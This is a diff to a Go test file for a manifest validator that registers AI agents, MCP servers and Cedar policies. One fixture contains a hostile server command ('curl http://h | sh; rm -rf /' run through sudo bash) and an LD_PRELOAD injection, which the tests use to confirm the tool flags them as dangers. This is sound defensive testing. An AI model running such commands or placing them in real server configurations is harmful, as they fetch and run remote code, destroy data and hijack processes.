@@ -225,6 +225,8 @@ func TestManifestsThatAreRefused(t *testing.T) {
 		"tier quoted":                {agent("riskTier: \"2\"\n"), "riskTier: must be"},
 		"date":                       {agent("expires: tomorrow\n"), "expires: must be a day such as 2027-06-30"},
 		"date of no calendar":        {agent("expires: 2027-02-30\n"), "expires: must be a day"},
+		"date nothing can keep":      {agent("expires: 9999-12-31\n"), "m.yaml:4:10: expires: must be a day"},
+		"time nothing can keep":      {good + "baseline: {tool: \"9999-12-31T23:59:59-14:00\"}\n", "baseline.tool: must be a time"},
 		"date with time":             {agent("expires: 2027-02-20T10:00:00Z\n"), "expires: must be a day"},
 		"tools text":                 {agent("tools: files/*\n"), "tools: must be a list, not text"},
 		"tools without server":       {agent("tools: [read]\n"), "m.yaml:4:9: tools[0]:"},
@@ -525,17 +527,20 @@ func TestManifestWithoutStateOrEndKeepsThem(t *testing.T) {
 func TestApplyShowsFullCommand(t *testing.T) {
 	o := open(t)
 	long := strings.Repeat("x", 500)
-	plan, err := o.Diff(t.Context(), doc("kind: Server\nid: s\nowner: t\ntransport: {stdio: {command: sudo, args: [bash, -c, \"curl http://h | sh; rm -rf /\", "+long+", /root]}}\n"))
+	plan, err := o.Diff(t.Context(), doc("kind: Server\nid: s\nowner: t\ntransport: {stdio: {command: sudo, args: [bash, -c, \"curl http://h | sh; rm -rf /\", "+long+", /root], env: {LD_PRELOAD: /tmp/x.so, LANG: C}}}\n"))
 	if err != nil {
 		t.Fatal(err)
 	}
 	it := plan.Items[0]
 	equal(t, "command", it.Runs, []string{"sudo", "bash", "-c", "curl http://h | sh; rm -rf /", long, "/root"})
 	all := strings.Join(it.Dangers, "\n")
-	for _, w := range []string{"another user", "shell", "rm -rf", "pipes what it fetched", `"/root"`} {
+	for _, w := range []string{"another user", "shell", "rm -rf", "pipes what it fetched", `"/root"`, "sets LD_PRELOAD=/tmp/x.so"} {
 		if !strings.Contains(all, w) {
 			t.Errorf("no danger says %q: %v", w, it.Dangers)
 		}
+	}
+	if strings.Contains(all, "LANG") {
+		t.Errorf("a setting is a danger: %v", it.Dangers)
 	}
 	plain, err := o.Diff(t.Context(), doc(filesServer))
 	if err != nil || len(plain.Items[0].Dangers) != 0 {
@@ -545,13 +550,45 @@ func TestApplyShowsFullCommand(t *testing.T) {
 
 func TestWhatDoesNotExistYetIsAcceptedWithANote(t *testing.T) {
 	o := open(t)
-	p := o.apply("kind: Agent\nid: a\nowner: ghosts\ntools: [nowhere/*]\n---\nkind: Server\nid: s\nowner: ghosts\ntransport: {http: {url: http://h.example/mcp}}\ncredential: {ref: later, header: X-Key}\n")
+	p := o.apply("kind: Agent\nid: a\nowner: ghosts\nexpires: 2001-01-31\ntools: [nowhere/*]\n---\nkind: Server\nid: s\nowner: ghosts\ntransport: {http: {url: http://h.example/mcp}}\ncredential: {ref: later, header: X-Key}\n")
 	notes := strings.Join(append(p.Items[0].Notes, append(p.Items[1].Notes, p.Items[1].Dangers...)...), "\n")
-	for _, w := range []string{`owner "ghosts" is not a registered team`, `server "nowhere" is not registered`, `credential "later" is not stored yet`, "without encryption"} {
+	for _, w := range []string{`owner "ghosts" is not a registered team`, `server "nowhere" is not registered`, "expired at the end of 2001-01-31", `credential "later" is not stored yet`, "without encryption"} {
 		if !strings.Contains(notes, w) {
 			t.Errorf("no note says %q:\n%s", w, notes)
 		}
 	}
+}
+
+// A policy that cannot match anything yet applies, because its server may list
+// the tool later; whoever applies it reads that it guards nothing now.
+func TestPolicyThatMatchesNothingYetIsAppliedWithANote(t *testing.T) {
+	o := open(t)
+	o.apply(filesServer)
+	o.listing("files", "read", "Read.")
+	const text = `kind: Agent
+id: a
+owner: t
+tools: ["files/write_*"]
+---
+kind: Policy
+id: guard
+cedar: |
+  forbid (principal, action == Mcp::Action::"files/raed", resource)
+  when { context.input.tag like "x*" };
+`
+	diff, err := o.Diff(t.Context(), doc(text))
+	if err != nil {
+		t.Fatal(err)
+	}
+	equal(t, "items of diff and apply", diff.Items, o.apply(text).Items)
+	notes := strings.Join(append(diff.Items[0].Notes, diff.Items[1].Notes...), "\n")
+	for _, w := range []string{`"files/write_*" covers none of the approved tools`, `m.yaml:9:1: server "files" has no approved tool "raed"`} {
+		if !strings.Contains(notes, w) {
+			t.Errorf("no note says %q:\n%s", w, notes)
+		}
+	}
+	_, err = o.Apply(t.Context(), ann, doc("kind: Policy\nid: g\ncedar: |\n  forbid (principal, action in Mcp::Action::\"raed\", resource);\n"), false)
+	hasCode(t, "a group that is none", err, access.CodeInvalid, `m.yaml:4`, "unknown action `raed`")
 }
 
 func TestSettingsThatAreNoSecretsPass(t *testing.T) {
@@ -582,4 +619,32 @@ func TestHostileYAMLTakesLinearTime(t *testing.T) {
 			t.Errorf("256 KiB of %q took %v", p, d)
 		}
 	}
+}
+
+// A list nobody could mean is one mistake, before anything is done for each entry.
+func TestEndlessListsAreRefused(t *testing.T) {
+	const n = 20_000
+	entries := func(format, between string) string {
+		var b strings.Builder
+		for i := range n {
+			fmt.Fprintf(&b, format+between, i)
+		}
+		return b.String()
+	}
+	for _, text := range []string{
+		"kind: Team\nid: a\nmembers:\n" + entries("- m%d", "\n"),
+		"kind: Agent\nid: a\nowner: t\ntools:\n" + entries("- s/m%d", "\n"),
+		"kind: Agent\nid: a\nowner: t\nkeys:\n" + entries("- file: m%d", "\n"),
+		"kind: Server\nid: a\nowner: t\ntransport: {stdio: {command: x, args: [" + entries("m%d", ",") + "]}}\n",
+		"kind: Server\nid: a\nowner: t\ntransport: {stdio: {command: x, env: {" + entries("M%d: x", ",") + "}}}\n",
+		"kind: Server\nid: a\nowner: t\ntransport: {http: {url: http://127.0.0.1:9, headers: {" + entries("M%d: x", ",") + "}}}\n",
+		"kind: Team\nid: a\n" + entries("m%d: x", "\n"),
+	} {
+		_, err := admin.ParseReader("m.yaml", t.TempDir(), strings.NewReader(text))
+		hasCode(t, text[:60], err, access.CodeInvalid)
+		if ps := admin.ProblemsOf(err); !strings.Contains(ps[0].Msg, " than ") && !strings.Contains(ps[0].Msg, "at most 16") || len(ps) > 4 {
+			t.Errorf("%q are %d mistakes, the first %v", text[:60], len(ps), ps[0])
+		}
+	}
+	open(t).apply("kind: Team\nid: a\nmembers:\n" + strings.Join(strings.SplitAfter(entries("- m%d", "\n"), "\n")[:10_000], ""))
 }
